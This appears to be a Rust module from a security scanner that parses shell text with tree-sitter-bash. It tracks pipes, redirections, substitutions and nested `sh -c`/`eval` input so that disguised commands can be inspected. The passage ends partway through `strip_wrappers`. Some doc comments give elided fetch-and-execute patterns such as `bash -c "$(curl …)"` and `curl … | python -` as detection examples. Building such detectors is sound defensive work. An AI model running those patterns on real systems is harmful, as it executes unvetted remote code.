//! Shell commands read by a real parser: `tree-sitter-bash` turns a script, a fenced shell
//! block, a hook command or an MCP `sh -c` string into a flat list of [`Command`]s with their
//! argv (quotes removed, `$'…'` decoded), environment prefixes, redirections, here-documents,
//! here-strings, the command each one's stdin is piped from, and the command whose argument
//! (`$(…)`, `` `…` ``, `<(…)`) each substitution runs in. `sh -c STRING`, `eval STRING` and a
//! here-document fed to a shell are parsed again, to any depth within [`NESTED_BUDGET`] bytes
//! (iteratively), with offsets mapped back into the outer text; a text handed to a shell that
//! the budget does not reach is recorded in [`Script::cut`].
//!
//! Why a grammar and not regexes: `curl … | python -m json.tool` and `curl … | python -` differ
//! only in argv; `echo "a > b"` is not a redirect; `bash -c "$(curl …)"` hides its fetch in a
//! substitution inside a quoted word. The grammar is error-tolerant: a snippet with a
//! placeholder (`<your-key>`) or a prompt (`$ `) still yields the commands around the error.
//!
//! **Bounds.** Texts over [`MAX_PARSE`] bytes are not parsed (the caller falls back to the
//! line rules and says so); the tree walk is iterative over an explicit stack, visits each
//! node once, and stops at [`MAX_COMMANDS`] commands; words are capped at [`MAX_WORD`] bytes.

use std::cell::RefCell;

use tree_sitter::{Node, Parser, Tree};

/// The largest text parsed (bytes).
pub const MAX_PARSE: usize = 1 << 20;
/// The most commands recorded for one text (nested levels included).
pub const MAX_COMMANDS: usize = 20_000;
/// The longest word kept (bytes); longer words are cut at a character boundary.
pub const MAX_WORD: usize = 16 * 1024;
/// How many bytes of `sh -c`, `eval` and here-document text fed to a shell are parsed
/// again, all levels together: nesting is followed to any depth within this budget (each
/// level is a substring of the one around it, so the budget, not the depth, bounds the work).
pub const NESTED_BUDGET: usize = 4 << 20;
/// The deepest level of re-parsed text (a guard far past any real script: each level needs
/// a shell around it).
pub const MAX_NESTING: usize = 1_000;
/// Grouping parentheses (`(…)`, `$(…)`) kept as written; deeper ones are read as blanks
/// (the command inside runs all the same), since the grammar's scanner is quadratic in
/// their depth.
const MAX_GROUPING: usize = 32;
/// The deepest syntax-tree node visited (a hostile `$($($(…)))` cannot exhaust memory).
const MAX_DEPTH: usize = 400;
/// The deepest nesting of substitutions walked (each level is a recursive call).
const MAX_SUBST_NESTING: usize = 48;

/// One shell word: its value with quotes removed (expansions and substitutions kept as
/// written) and where it is.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Word {
    pub text: String,
    /// Byte span in the parsed text (outer coordinates).
    pub start: usize,
    pub end: usize,
    /// The word holds an expansion (`$X`, `${X}`) or a substitution: its value is only known
    /// at run time.
    pub dynamic: bool,
    /// Commands that run inside this word's `$(…)`/`` `…` `` substitutions.
    pub subst: Vec<usize>,
    /// Commands that run inside this word's `<(…)`/`>(…)` process substitutions.
    pub proc_subst: Vec<usize>,
}

/// A redirection operator.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RedirOp {
    /// `>`, `>|`, `&>`, `>&` (to a file).
    Write,
    /// `>>`, `&>>`.
    Append,
    /// `<`.
    Read,
    /// `<>`.
    ReadWrite,
    /// `<&`, `>&` to a descriptor.
    Dup,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Redirect {
    pub op: RedirOp,
    pub fd: Option<u32>,
    pub target: Word,
}

/// One simple command.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Command {
    pub start: usize,
    pub end: usize,
    /// `VAR=value` prefixes.
    pub env: Vec<(String, Word)>,
    /// The command name and its arguments.
    pub argv: Vec<Word>,
    pub redirects: Vec<Redirect>,
    /// The body of a here-document on stdin.
    pub heredoc: Option<Word>,
    /// A here-string (`<<< word`) on stdin.
    pub herestring: Option<Word>,
    /// The command whose stdout this one's stdin is piped from.
    pub piped_from: Option<usize>,
    /// The command in one of whose words this one runs as a substitution.
    pub enclosing: Option<usize>,
    /// Nesting level: 0 for the text itself, 1 for an `sh -c` string in it, …
    pub level: usize,
}

impl Command {
    /// The command name without a path (`/usr/bin/curl` → `curl`), lower-cased.
    pub fn name(&self) -> String {
        self.argv
            .first()
            .map(|w| base_name(&w.text).to_ascii_lowercase())
            .unwrap_or_default()
    }

    /// The words after the name.
    pub fn args(&self) -> &[Word] {
        self.argv.get(1..).unwrap_or(&[])
    }
}

/// A standalone assignment (`URL=…`, `export URL=…`) in statement order.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Assignment {
    pub name: String,
    pub value: Word,
    /// Commands recorded before it (so a use can find the last assignment before it).
    pub before: usize,
}

/// What the parser read of one text.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Script {
    /// Every simple command, in the order the walk met them: statements in source order, a
    /// command before the substitutions in its words, nested levels (`sh -c`) after the text
    /// they are in. Compare `start` offsets for source order.
    pub commands: Vec<Command>,
    pub assignments: Vec<Assignment>,
    /// The text was too large, too deep or held too many commands: not all of it was read.
    pub truncated: bool,
    /// Where a command that a shell would run was not read, and why (the first such place,
    /// outer coordinates): a nested `sh -c`/`eval`/here-document past the budget, a text
    /// the grammar could not take. Reported as not inspected, never passed.
    pub cut: Option<(usize, &'static str)>,
}

impl Script {
    /// The value of `$NAME`/`${NAME}` in `word`, with the last assignment before command
    /// `at` substituted (one level; the result is capped at [`MAX_WORD`]).
    pub fn resolve(&self, word: &Word, at: usize) -> String {
        if !word.text.contains('$') {
            return word.text.clone();
        }
        let mut out = String::with_capacity(word.text.len());
        let b = word.text.as_bytes();
        let mut i = 0;
        while i < b.len() {
            if b[i] == b'$' {
                let (name, next) = var_at(&word.text, i + 1);
                if !name.is_empty()
                    && let Some(a) = self
                        .assignments
                        .iter()
                        .rev()
                        .find(|a| a.name == name && a.before <= at)
                {
                    out.push_str(&a.value.text);
                    i = next;
                    if out.len() > MAX_WORD {
                        break;
                    }
                    continue;
                }
            }
            let ch_len = utf8_len(b[i]);
            out.push_str(word.text.get(i..i + ch_len).unwrap_or(""));
            i += ch_len;
        }
        out
    }

    /// The commands whose stdin comes from `i` through any number of pipes (`a | b | c`: b and
    /// c for a), in order.
    pub fn downstream(&self, i: usize) -> Vec<usize> {
        let mut out = Vec::new();
        let mut cur = i;
        // Each command has at most one successor in its pipeline, found after it.
        'outer: loop {
            for (j, c) in self.commands.iter().enumerate().skip(cur + 1) {
                if c.piped_from == Some(cur) {
                    out.push(j);
                    cur = j;
                    continue 'outer;
                }
            }
            break;
        }
        out
    }
}

fn utf8_len(b: u8) -> usize {
    match b {
        0xF0..=0xFF => 4,
        0xE0..=0xEF => 3,
        0xC0..=0xDF => 2,
        _ => 1,
    }
}

/// The variable name after a `$` at byte `i` (`NAME`, `{NAME}`), and the byte after it.
fn var_at(s: &str, i: usize) -> (&str, usize) {
    let b = s.as_bytes();
    if b.get(i) == Some(&b'{') {
        let end = s[i + 1..].find('}').map(|e| i + 1 + e);
        return match end {
            Some(e)
                if s[i + 1..e]
                    .bytes()
                    .all(|c| c.is_ascii_alphanumeric() || c == b'_') =>
            {
                (&s[i + 1..e], e + 1)
            }
            _ => ("", i),
        };
    }
    let mut e = i;
    while e < b.len() && (b[e].is_ascii_alphanumeric() || b[e] == b'_') {
        e += 1;
    }
    (&s[i..e], e)
}

/// `/usr/bin/curl` → `curl`, `C:\x\curl.exe` → `curl.exe`.
pub fn base_name(s: &str) -> &str {
    s.rsplit(['/', '\\']).next().unwrap_or(s)
}

thread_local! {
    static PARSER: RefCell<Option<Parser>> = const { RefCell::new(None) };
}

fn parse_tree(text: &str) -> Option<Tree> {
    PARSER.with(|p| {
        let mut p = p.borrow_mut();
        if p.is_none() {
            let mut parser = Parser::new();
            parser
                .set_language(&tree_sitter_bash::LANGUAGE.into())
                .ok()?;
            *p = Some(parser);
        }
        let parser = p.as_mut()?;
        parser.reset();
        parser.parse(text, None)
    })
}

/// Parses `text` as a shell script. `None` when it is larger than [`MAX_PARSE`].
pub fn parse(text: &str) -> Option<Script> {
    if text.len() > MAX_PARSE {
        return None;
    }
    let mut script = Script::default();
    parse_into(text, 0, 0, None, &mut script);
    Some(script)
}

/// Parses `text` (which sits at `base` in the outer text) at nesting `level` into `out`,
/// then every text it hands to a shell, depth first, iteratively, within
/// [`NESTED_BUDGET`] bytes.
fn parse_into(text: &str, base: usize, level: usize, enclosing: Option<usize>, out: &mut Script) {
    use std::borrow::Cow;
    let mut work: Vec<(Cow<'_, str>, usize, usize, Option<usize>)> =
        vec![(Cow::Borrowed(text), base, level, enclosing)];
    let mut budget = NESTED_BUDGET;
    while let Some((text, base, level, enclosing)) = work.pop() {
        let (text, lost) = flatten_groupings(&text);
        if let Some(off) = lost {
            out.truncated = true;
            out.cut
                .get_or_insert((base + off, "command substitutions nested past 32 levels"));
        }
        let Some(tree) = parse_tree(&text) else {
            out.truncated = true;
            out.cut
                .get_or_insert((base, "the shell grammar could not read it"));
            continue;
        };
        let mut w = Walker {
            text: &text,
            base,
            level,
            out,
            nested: Vec::new(),
            subst_depth: 0,
        };
        w.statements(tree.root_node(), enclosing);
        let nested = std::mem::take(&mut w.nested);
        for (inner, at, enc) in nested.into_iter().rev() {
            if level + 1 > MAX_NESTING || inner.len() > budget {
                out.truncated = true;
                out.cut.get_or_insert((
                    at,
                    "a command nested in `sh -c`, `eval` or a here-document past what one scan re-reads",
                ));
                continue;
            }
            budget -= inner.len();
            work.push((Cow::Owned(inner), at, level + 1, enc));
        }
    }
}

/// `text` with grouping parentheses past [`MAX_GROUPING`] levels, and all but the first of
/// a run of them (`((((…))))`, which the grammar would read as arithmetic), read as blanks
/// (`$(` as two blanks), byte for byte, so offsets stay. Only for a text that deep. Linear; the text itself when nothing is
/// that deep. Quotes are not tracked: a parenthesis inside a string deeper than the limit
/// is blanked too, which changes no command.
fn flatten_groupings(text: &str) -> (std::borrow::Cow<'_, str>, Option<usize>) {
    let b = text.as_bytes();
    let (mut depth, mut deepest, mut unmatched) = (0usize, 0usize, 0usize);
    for &c in b {
        match c {
            b'(' => {
                depth += 1;
                deepest = deepest.max(depth);
            }
            b')' if depth == 0 => unmatched += 1,
            b')' => depth -= 1,
            _ => {}
        }
    }
    if deepest <= MAX_GROUPING && unmatched <= MAX_GROUPING {
        return (std::borrow::Cow::Borrowed(text), None);
    }
    // The first command substitution (`$(`, `<(`, `>(`) past the limit: its text would run
    // but is no longer one, so the caller records a cut there.
    let mut lost = None;
    let mut out = b.to_vec();
    depth = 0;
    // Per open parenthesis: whether it was blanked (its closing one is too).
    let mut blanked: Vec<bool> = Vec::new();
    for i in 0..out.len() {
        match out[i] {
            b'(' => {
                depth += 1;
                // `((` would read as arithmetic: of a run of openings, the first stays.
                let blank = depth > MAX_GROUPING || (i > 0 && b[i - 1] == b'(');
                if blank {
                    out[i] = b' ';
                    if i > 0 && matches!(out[i - 1], b'$' | b'<' | b'>') {
                        if depth > MAX_GROUPING {
                            lost.get_or_insert(i - 1);
                        }
                        if out[i - 1] == b'$' {
                            out[i - 1] = b' ';
                        }
                    }
                }
                blanked.push(blank);
            }
            // A closing parenthesis with no opening one is a syntax error the grammar
            // scans at length: blanked too.
            b')' => {
                depth = depth.saturating_sub(1);
                if blanked.pop().is_none_or(|b| b) {
                    out[i] = b' ';
                }
            }
            _ => {}
        }
    }
    // Only ASCII bytes were replaced by ASCII blanks: still UTF-8.
    (
        std::borrow::Cow::Owned(String::from_utf8(out).unwrap_or_else(|_| text.to_owned())),
        lost,
    )
}

struct Walker<'t, 's> {
    text: &'t str,
    base: usize,
    level: usize,
    out: &'s mut Script,
    /// Strings to parse again as shell: (text, outer offset, the command they run in).
    nested: Vec<(String, usize, Option<usize>)>,
    /// Substitutions entered (each is a recursive walk).
    subst_depth: usize,
}

impl Walker<'_, '_> {
    fn node_text(&self, n: Node) -> &str {
        self.text.get(n.byte_range()).unwrap_or("")
    }

    fn full(&mut self, at: usize) -> bool {
        if self.out.commands.len() >= MAX_COMMANDS {
            self.out.truncated = true;
            self.out.cut.get_or_insert((
                self.base + at,
                "commands past the 20,000 one script is read for",
            ));
            true
        } else {
            false
        }
    }

    /// Walks a node holding statements (program, list, subshell, compound statement, loop
    /// bodies…), recording every simple command. Iterative: a stack of (node, depth).
    fn statements(&mut self, root: Node, enclosing: Option<usize>) {
        let mut stack: Vec<(Node, usize)> = vec![(root, 0)];
        while let Some((n, depth)) = stack.pop() {
            if self.full(n.start_byte()) {
                return;
            }
            if depth > MAX_DEPTH {
                self.out.truncated = true;
                self.out.cut.get_or_insert((
                    self.base + n.start_byte(),
                    "statements nested past the 400 levels one script is read to",
                ));
                continue;
            }
            match n.kind() {
                "command" | "redirected_statement" | "unset_command" => {
                    self.simple(n, enclosing, None, depth);
                }
                "pipeline" => {
                    self.pipeline(n, enclosing, depth);
                }
                "variable_assignment" => self.assignment(n, depth),
                "declaration_command" => {
                    let mut c = n.walk();
                    let kids: Vec<Node> = n.named_children(&mut c).collect();
                    for k in kids {
                        if k.kind() == "variable_assignment" {
                            self.assignment(k, depth + 1);
                        }
                    }
                }
                "command_substitution" | "process_substitution" => {
                    // Reached outside a word (e.g. a bare `$(…)` statement): its commands run.
                    let mut c = n.walk();
                    let kids: Vec<Node> = n.named_children(&mut c).collect();
                    for k in kids.into_iter().rev() {
                        stack.push((k, depth + 1));
                    }
                }
                _ => {
                    let mut c = n.walk();
                    let kids: Vec<Node> = n.named_children(&mut c).collect();
                    for k in kids.into_iter().rev() {
                        stack.push((k, depth + 1));
                    }
                }
            }
        }
    }

    fn assignment(&mut self, n: Node, depth: usize) {
        let name = n
            .child_by_field_name("name")
            .map(|x| self.node_text(x).to_owned())
            .unwrap_or_default();
        let value = n
            .child_by_field_name("value")
            .map(|v| self.word(v, None, depth + 1))
            .unwrap_or_default();
        self.out.assignments.push(Assignment {
            name,
            value,
            before: self.out.commands.len(),
        });
    }

    /// `a | b | c`: each stage's first command reads the previous stage's last command.
    /// Returns the pipeline's first and last commands.
    fn pipeline(
        &mut self,
        n: Node,
        enclosing: Option<usize>,
        depth: usize,
    ) -> Option<(usize, usize)> {
        let mut c = n.walk();
        let stages: Vec<Node> = n.named_children(&mut c).collect();
        let mut prev: Option<usize> = None;
        let mut first: Option<usize> = None;
        for s in stages {
            if self.full(s.start_byte()) {
                break;
            }
            if depth > MAX_DEPTH {
                self.out.truncated = true;
                self.out.cut.get_or_insert((
                    self.base + s.start_byte(),
                    "a pipeline nested past the 400 levels one script is read to",
                ));
                break;
            }
            let Some((f, l)) = self.stage(s, enclosing, depth + 1) else {
                continue;
            };
            if self.out.commands[f].piped_from.is_none() {
                self.out.commands[f].piped_from = prev;
                if let Some(p) = prev {
                    self.queue_piped(p, f);
                }
            }
            first.get_or_insert(f);
            prev = Some(l);
        }
        Some((first?, prev?))
    }

    /// One stage of a pipeline (or any statement): its first and last top-level commands.
    fn stage(&mut self, s: Node, enclosing: Option<usize>, depth: usize) -> Option<(usize, usize)> {
        match s.kind() {
            "command" | "redirected_statement" | "unset_command" => {
                self.simple(s, enclosing, None, depth)
            }
            "pipeline" => self.pipeline(s, enclosing, depth),
            _ => {
                let before = self.out.commands.len();
                self.statements(s, enclosing);
                let level = self.level;
                let mine: Vec<usize> = (before..self.out.commands.len())
                    .filter(|&i| {
                        self.out.commands[i].enclosing == enclosing
                            && self.out.commands[i].level == level
                    })
                    .collect();
                Some((*mine.first()?, *mine.last()?))
            }
        }
    }

    /// A command, possibly wrapped in redirections. Returns its first and last commands (one
    /// command, or a pipeline or compound statement under the redirections).
    fn simple(
        &mut self,
        n: Node,
        enclosing: Option<usize>,
        piped: Option<usize>,
        depth: usize,
    ) -> Option<(usize, usize)> {
        let (body, redirs): (Option<Node>, Vec<Node>) = if n.kind() == "redirected_statement" {
            let body = n.child_by_field_name("body");
            let mut c = n.walk();
            let r: Vec<Node> = n
                .named_children(&mut c)
                .filter(|k| k.kind().ends_with("_redirect"))
                .collect();
            (body, r)
        } else {
            (Some(n), Vec::new())
        };
        if let Some(b) = body
            && !matches!(b.kind(), "command" | "unset_command")
        {
            // `a | b > f` (the grammar puts the redirection on the pipeline: it is b's),
            // `{ …; } > f`, `(…) | sh`, `while …; done < f`: the input redirections go to the
            // first command, the others to the last.
            let (f, l) = self.stage(b, enclosing, depth + 1)?;
            if self.out.commands[f].piped_from.is_none() {
                self.out.commands[f].piped_from = piped;
            }
            for r in redirs {
                let input = self
                    .node_text(r)
                    .trim_start_matches(|c: char| c.is_ascii_digit())
                    .starts_with('<');
                self.redirect(r, if input { f } else { l }, depth + 1);
            }
            return Some((f, l));
        }
        let idx = self.out.commands.len();
        let start = self.base + n.start_byte();
        let end = self.base + n.end_byte();
        self.out.commands.push(Command {
            start,
            end,
            piped_from: piped,
            enclosing,
            level: self.level,
            ..Command::default()
        });
        if let Some(b) = body.filter(|b| b.kind() == "unset_command") {
            // `unset X`: the keyword is not a node of its own.
            let kw = self
                .node_text(b)
                .split_whitespace()
                .next()
                .unwrap_or("unset")
                .to_owned();
            self.out.commands[idx].argv.push(Word {
                text: kw,
                start,
                end: start + 5,
                ..Word::default()
            });
            let mut c = b.walk();
            let kids: Vec<Node> = b.named_children(&mut c).collect();
            for k in kids {
                let w = self.word(k, Some(idx), depth + 1);
                self.out.commands[idx].argv.push(w);
            }
        } else if let Some(b) = body {
            let mut c = b.walk();
            let kids: Vec<Node> = b.named_children(&mut c).collect();
            for k in kids {
                match k.kind() {
                    "variable_assignment" => {
                        let name = k
                            .child_by_field_name("name")
                            .map(|x| self.node_text(x).to_owned())
                            .unwrap_or_default();
                        let value = k
                            .child_by_field_name("value")
                            .map(|v| self.word(v, Some(idx), depth + 1))
                            .unwrap_or_default();
                        self.out.commands[idx].env.push((name, value));
                    }
                    "command_name" => {
                        let inner = k.named_child(0).unwrap_or(k);
                        let w = self.word(inner, Some(idx), depth + 1);
                        self.out.commands[idx].argv.push(w);
                    }
                    "file_redirect" | "herestring_redirect" | "heredoc_redirect" => {
                        self.redirect(k, idx, depth + 1);
                    }
                    "comment" => {}
                    _ => {
                        let w = self.word(k, Some(idx), depth + 1);
                        self.out.commands[idx].argv.push(w);
                    }
                }
            }
        }
        for r in redirs {
            self.redirect(r, idx, depth + 1);
        }
        self.queue_nested(idx);
        Some((idx, idx))
    }

    /// Queues a text a shell runs; one cut at [`MAX_WORD`] was not read whole, which is
    /// recorded as a cut where it starts.
    fn nest(&mut self, text: String, at: usize, idx: Option<usize>) {
        if text.len() >= MAX_WORD {
            self.out.truncated = true;
            self.out.cut.get_or_insert((
                at,
                "a command string longer than 16 KiB handed to a shell (only its start was read)",
            ));
        }
        self.nested.push((text, at, idx));
    }

    /// `echo TEXT | sh` and `printf FMT ARGS | sh`: the printed text is shell again (read
    /// as printed without interpreting `printf` escapes: the words as written, one per
    /// line). Only when the reading stage is a shell without a script or `-c`.
    fn queue_piped(&mut self, from: usize, to: usize) {
        let reader = strip_wrappers(&self.out.commands[to].argv);
        let Some(name) = program(reader) else {
            return;
        };
        if !is_shell(&name) || reader[1..].iter().any(|w| !w.text.starts_with('-')) {
            return;
        }
        let writer = strip_wrappers(&self.out.commands[from].argv);
        let Some(prog) = program(writer) else {
            return;
        };
        let args: Vec<&Word> = writer[1..]
            .iter()
            .filter(|w| !(prog == "echo" && w.text.starts_with('-')))
            .collect();
        let args = match prog.as_str() {
            "echo" => &args[..],
            // The format alone, or the arguments it prints.
            "printf" if args.len() == 1 => &args[..],
            "printf" => &args[1..],
            _ => return,
        };
        let Some(at) = args.first().map(|w| w.start + 1) else {
            return;
        };
        let text = args
            .iter()
            .map(|w| w.text.as_str())
            .collect::<Vec<_>>()
            .join(if prog == "echo" { " " } else { "\n" });
        self.nest(text, at, Some(to));
    }

    /// `sh -c STRING`, `eval STRING…`, and a here-document or here-string fed to a shell are
    /// shell again.
    fn queue_nested(&mut self, idx: usize) {
        let cmd = &self.out.commands[idx];
        let argv = strip_wrappers(&cmd.argv);
        let Some(name) = program(argv) else {
            return;
        };
        let mut texts: Vec<(String, usize)> = Vec::new();
        if is_shell(&name) {
            if let Some(pos) = argv.iter().position(|w| {
                w.text.starts_with('-') && !w.text.starts_with("--") && w.text.contains('c')
            }) && let Some(s) = argv.get(pos + 1)
            {
                texts.push((s.text.clone(), s.start + 1));
            }
            if let Some(h) = &cmd.heredoc {
                texts.push((h.text.clone(), h.start));
            }
            if let Some(h) = &cmd.herestring {
                texts.push((h.text.clone(), h.start + 1));
            }
        } else if name == "eval" && argv.len() > 1 {
            let joined: Vec<&str> = argv[1..].iter().map(|w| w.text.as_str()).collect();
            texts.push((joined.join(" "), argv[1].start + 1));
        }
        for (t, at) in texts {
            self.nest(t, at, Some(idx));
        }
    }

    fn redirect(&mut self, r: Node, idx: usize, depth: usize) {
        let fd = r
            .child_by_field_name("descriptor")
            .and_then(|d| self.node_text(d).parse::<u32>().ok());
        match r.kind() {
            "heredoc_redirect" => {
                let mut c = r.walk();
                let kids: Vec<Node> = r.named_children(&mut c).collect();
                // An unquoted delimiter: the shell removes `\\`, `` \` `` and `\$` escapes
                // from the body before it is read, so `` \`cmd\` `` runs `cmd`.
                let unquoted = kids.iter().any(|k| {
                    k.kind() == "heredoc_start" && !self.node_text(*k).contains(['\'', '"', '\\'])
                });
                for k in &kids {
                    if k.kind() == "heredoc_body" {
                        let body = cap(self.node_text(*k));
                        let w = Word {
                            text: if unquoted && body.contains('\\') {
                                unescape_backquoted(body)
                            } else {
                                body.to_owned()
                            },
                            start: self.base + k.start_byte(),
                            end: self.base + k.end_byte(),
                            dynamic: false,
                            ..Word::default()
                        };
                        self.out.commands[idx].heredoc = Some(w);
                    } else if k.kind() == "file_redirect" {
                        self.redirect(*k, idx, depth + 1);
                    }
                }
            }
            "herestring_redirect" => {
                if let Some(v) = r.named_children(&mut r.walk()).last() {
                    let w = self.word(v, Some(idx), depth + 1);
                    self.out.commands[idx].herestring = Some(w);
                }
            }
            _ => {
                let full = self.node_text(r);
                let op_text: String = full
                    .trim_start_matches(|c: char| c.is_ascii_digit())
                    .chars()
                    .take_while(|c| matches!(c, '<' | '>' | '&' | '|'))
                    .collect();
                let Some(dest) = r.child_by_field_name("destination") else {
                    return;
                };
                let target = self.word(dest, Some(idx), depth + 1);
                let op = match op_text.as_str() {
                    ">>" | "&>>" => RedirOp::Append,
                    "<" => RedirOp::Read,
                    "<>" => RedirOp::ReadWrite,
                    ">&" | "<&" if target.text.bytes().all(|b| b.is_ascii_digit() || b == b'-') => {
                        RedirOp::Dup
                    }
                    _ => RedirOp::Write,
                };
                self.out.commands[idx]
                    .redirects
                    .push(Redirect { op, fd, target });
            }
        }
    }

    /// The value of a word node; substitutions inside it are walked as commands running in
    /// command `owner`.
    fn word(&mut self, n: Node, owner: Option<usize>, depth: usize) -> Word {
        let mut w = Word {
            start: self.base + n.start_byte(),
            end: self.base + n.end_byte(),
            ..Word::default()
        };
        let mut text = String::new();
        self.word_into(n, owner, depth, &mut w, &mut text);
        w.text = cap(&text).to_owned();
        w
    }

    fn word_into(
        &mut self,
        n: Node,
        owner: Option<usize>,
        depth: usize,
        w: &mut Word,
        out: &mut String,
    ) {
        if depth > MAX_DEPTH || out.len() > MAX_WORD {
            self.out.truncated = true;
            return;
        }
        match n.kind() {
            "raw_string" => {
                let t = self.node_text(n);
                out.push_str(
                    t.strip_prefix('\'')
                        .unwrap_or(t)
                        .strip_suffix('\'')
                        .unwrap_or(t),
                );
            }
            "ansi_c_string" => {
                let t = self.node_text(n);
                let inner = t
                    .strip_prefix("$'")
                    .unwrap_or(t)
                    .strip_suffix('\'')
                    .unwrap_or(t);
                out.push_str(&ansi_c(inner));
            }
            "string" | "concatenation" | "translated_string" => {
                // Children in order; the text between them (string content, spaces the
                // grammar does not give a node) is kept as written.
                let mut pos = n.start_byte();
                let (open, close) = if n.kind() == "string" {
                    (1, 1)
                } else if n.kind() == "translated_string" {
                    (2, 1)
                } else {
                    (0, 0)
                };
                let end = n.end_byte().saturating_sub(close).max(pos);
                pos += open;
                let mut c = n.walk();
                let kids: Vec<Node> = n.named_children(&mut c).collect();
                for k in kids {
                    if k.start_byte() > pos {
                        out.push_str(&unescape(self.text.get(pos..k.start_byte()).unwrap_or("")));
                    }
                    if k.kind() == "string_content" {
                        out.push_str(&unescape(self.node_text(k)));
                    } else {
                        self.word_into(k, owner, depth + 1, w, out);
                    }
                    pos = k.end_byte().max(pos);
                }
                if end > pos {
                    out.push_str(&unescape(self.text.get(pos..end).unwrap_or("")));
                }
            }
            "command_substitution" | "process_substitution" => {
                w.dynamic = true;
                out.push_str(self.node_text(n));
                if self.subst_depth >= MAX_SUBST_NESTING {
                    self.out.truncated = true;
                    return;
                }
                // Backquotes nest by escaping: `` `a \`b\`` `` runs `b` inside `a`. The
                // grammar reads the escaped ones as text, so the body is read again with one
                // level of escapes removed, as the shell does.
                let t = self.node_text(n);
                if let Some(body) = t.strip_prefix('`').and_then(|b| b.strip_suffix('`'))
                    && body.contains("\\`")
                {
                    let at = self.base + n.start_byte() + 1;
                    let inner = unescape_backquoted(body);
                    self.nest(inner, at, owner);
                }
                let first = self.out.commands.len();
                self.subst_depth += 1;
                self.statements(n, owner);
                self.subst_depth -= 1;
                let made: Vec<usize> = (first..self.out.commands.len())
                    .filter(|&i| self.out.commands[i].enclosing == owner)
                    .collect();
                if n.kind() == "process_substitution" {
                    w.proc_subst.extend(made);
                } else {
                    w.subst.extend(made);
                }
            }
            "simple_expansion" | "expansion" | "arithmetic_expansion" => {
                w.dynamic = true;
                out.push_str(self.node_text(n));
                // `${X:-$(curl …)}`: substitutions inside an expansion run too.
                let mut c = n.walk();
                let kids: Vec<Node> = n.named_children(&mut c).collect();
                for k in kids {
                    if matches!(k.kind(), "command_substitution" | "process_substitution") {
                        let mut sink = String::new();
                        self.word_into(k, owner, depth + 1, w, &mut sink);
                    }
                }
            }
            "word" | "number" => out.push_str(&unescape_word(self.node_text(n))),
            _ => out.push_str(self.node_text(n)),
        }
    }
}

/// The body of a backquoted substitution as the shell runs it: `\\`, `` \` `` and `\$` lose
/// their backslash, every other backslash stays.
fn unescape_backquoted(body: &str) -> String {
    let mut out = String::with_capacity(body.len());
    let mut chars = body.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '\\'
            && let Some(&next) = chars.peek()
            && matches!(next, '\\' | '`' | '$')
        {
            out.push(next);
            chars.next();
            continue;
        }
        out.push(c);
    }
    out
}

/// The program a command runs: its first word's base name, lower-cased.
fn program(argv: &[Word]) -> Option<String> {
    argv.first()
        .map(|w| base_name(&w.text).to_ascii_lowercase())
}

/// Cuts `s` to at most [`MAX_WORD`] bytes at a character boundary.
fn cap(s: &str) -> &str {
    if s.len() <= MAX_WORD {
        return s;
    }
    let mut e = MAX_WORD;
    while !s.is_char_boundary(e) {
        e -= 1;
    }
    &s[..e]
}

/// Backslash escapes inside double quotes: `\"`, `\\`, `\$`, `` \` `` lose the backslash.
fn unescape(s: &str) -> String {
    if !s.contains('\\') {
        return s.to_owned();
    }
    let mut out = String::with_capacity(s.len());
    let mut it = s.chars().peekable();
    while let Some(c) = it.next() {
        if c == '\\'
            && let Some(&n) = it.peek()
            && matches!(n, '"' | '\\' | '$' | '`' | '\n')
        {
            it.next();
            if n != '\n' {
                out.push(n);
            }
            continue;
        }
        out.push(c);
    }
    out
}

/// An unquoted word: every backslash escapes the next character (`c\url` is `curl`).
fn unescape_word(s: &str) -> String {
    if !s.contains('\\') {
        return s.to_owned();
    }
    let mut out = String::with_capacity(s.len());
    let mut it = s.chars();
    while let Some(c) = it.next() {
        if c == '\\' {
            match it.next() {
                Some('\n') | None => {}
                Some(n) => out.push(n),
            }
        } else {
            out.push(c);
        }
    }
    out
}

/// `$'…'` escapes: `\xHH`, `\NNN` (octal), `\uHHHH`, `\n`, `\t`, `\\`, `\'`.
fn ansi_c(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let b = s.as_bytes();
    let mut i = 0;
    let mut bytes: Vec<u8> = Vec::with_capacity(s.len());
    while i < b.len() {
        if b[i] == b'\\' && i + 1 < b.len() {
            let c = b[i + 1];
            let hex = |from: usize, max: usize| {
                let mut v: u32 = 0;
                let mut n = 0;
                while n < max && from + n < b.len() && (b[from + n] as char).is_ascii_hexdigit() {
                    v = v * 16 + (b[from + n] as char).to_digit(16).unwrap_or(0);
                    n += 1;
                }
                (v, n)
            };
            match c {
                b'x' => {
                    let (v, n) = hex(i + 2, 2);
                    if n > 0 {
                        bytes.push(v as u8);
                        i += 2 + n;
                        continue;
                    }
                }
                b'u' | b'U' => {
                    let (v, n) = hex(i + 2, if c == b'u' { 4 } else { 8 });
                    if n > 0 {
                        let mut buf = [0u8; 4];
                        let ch = char::from_u32(v).unwrap_or('\u{FFFD}');
                        bytes.extend_from_slice(ch.encode_utf8(&mut buf).as_bytes());
                        i += 2 + n;
                        continue;
                    }
                }
                b'0'..=b'7' => {
                    let mut v: u32 = 0;
                    let mut n = 0;
                    while n < 3 && i + 1 + n < b.len() && (b'0'..=b'7').contains(&b[i + 1 + n]) {
                        v = v * 8 + u32::from(b[i + 1 + n] - b'0');
                        n += 1;
                    }
                    bytes.push((v & 0xFF) as u8);
                    i += 1 + n;
                    continue;
                }
                b'n' => bytes.push(b'\n'),
                b't' => bytes.push(b'\t'),
                b'r' => bytes.push(b'\r'),
                b'a' => bytes.push(7),
                b'e' | b'E' => bytes.push(0x1b),
                _ => bytes.push(c),
            }
            i += 2;
            continue;
        }
        bytes.push(b[i]);
        i += 1;
    }
    out.push_str(&String::from_utf8_lossy(&bytes));
    out
}

/// Command prefixes that run the rest of the argv as the command: `sudo -E`, `env A=b`,
/// `nohup`, `exec`, `command`, `time`, `timeout 5`, `nice -n 5`, `doas`, `busybox`.
pub fn strip_wrappers(argv: &[Word]) -> &[Word] {
    let mut i = 0;
    let mut guard = 0;
    while i < argv.len() && guard < 16 {
        guard += 1;
